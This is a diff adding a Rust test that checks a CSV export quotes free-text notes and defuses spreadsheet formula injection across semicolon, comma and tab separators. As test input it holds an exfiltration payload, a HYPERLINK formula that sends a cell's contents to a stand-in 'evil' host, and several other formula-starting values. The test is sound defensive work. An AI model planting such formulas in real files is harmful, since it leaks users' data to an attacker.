@@ -72,3 +72,58 @@ fn fields_are_quoted_and_formulas_defused() {
     });
     assert!(text.contains(";\"'=1+1; \"\"ok\"\"\"\r\n"), "{text}");
 }
+
+/// The cells of a CSV text as a spreadsheet reads them with `separator` (RFC 4180 quotes).
+fn cells(text: &str, separator: char) -> Vec<Vec<String>> {
+    let mut rows = vec![vec![String::new()]];
+    let mut quoted = false;
+    let mut chars = text.trim_start_matches('\u{FEFF}').chars().peekable();
+    while let Some(c) = chars.next() {
+        let cell = rows.last_mut().unwrap().last_mut().unwrap();
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            '"' => quoted = !quoted,
+            '\r' if !quoted => {}
+            '\n' if !quoted => rows.push(vec![String::new()]),
+            c if c == separator && !quoted => rows.last_mut().unwrap().push(String::new()),
+            c => cell.push(c),
+        }
+    }
+    rows
+}
+
+#[test]
+fn a_note_with_commas_is_one_cell_whatever_the_separator_and_no_cell_starts_a_formula() {
+    let attack = "x,=HYPERLINK(\"https://evil/?\"&A2,\"klik\")";
+    assert_eq!(field(attack), "\"x,=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"klik\"\")\"");
+    assert_eq!(field("a\t=1+1"), "\"a\t=1+1\"");
+    assert_eq!(field("-2+3"), "'-2+3");
+    assert_eq!(field("＝1+1"), "'＝1+1", "the full-width equals sign too");
+    let notes = [attack, "x;=1+1", "x\t@SUM(A1)", "-1", "ok, \"fine\""];
+    let responses = notes
+        .iter()
+        .enumerate()
+        .map(|(n, note)| response(&format!("{n}"), "who5", &[("1", 3)], Status::Partial, Some(note)))
+        .collect();
+    let text = csv(&History { responses, ..Default::default() });
+    for separator in [';', ',', '\t'] {
+        for row in cells(&text, separator) {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
+                    "{separator:?}: the cell {cell:?} would be a formula"
+                );
+            }
+        }
+    }
+    // Split on commas, as an English spreadsheet does: the note stays one cell, and
+    // split on semicolons (the file's own separator) it reads back as written, defused.
+    let by_comma = cells(&text, ',');
+    assert!(by_comma.iter().all(|row| !row.iter().any(|c| c.starts_with("=HYPERLINK"))), "{by_comma:?}");
+    let by_semicolon = cells(&text, ';');
+    let written: Vec<&str> = by_semicolon[1..].iter().filter(|r| r.len() == 14).map(|r| r[13].as_str()).collect();
+    assert_eq!(written, [attack, "x;=1+1", "x\t@SUM(A1)", "'-1", "ok, \"fine\""]);
+}
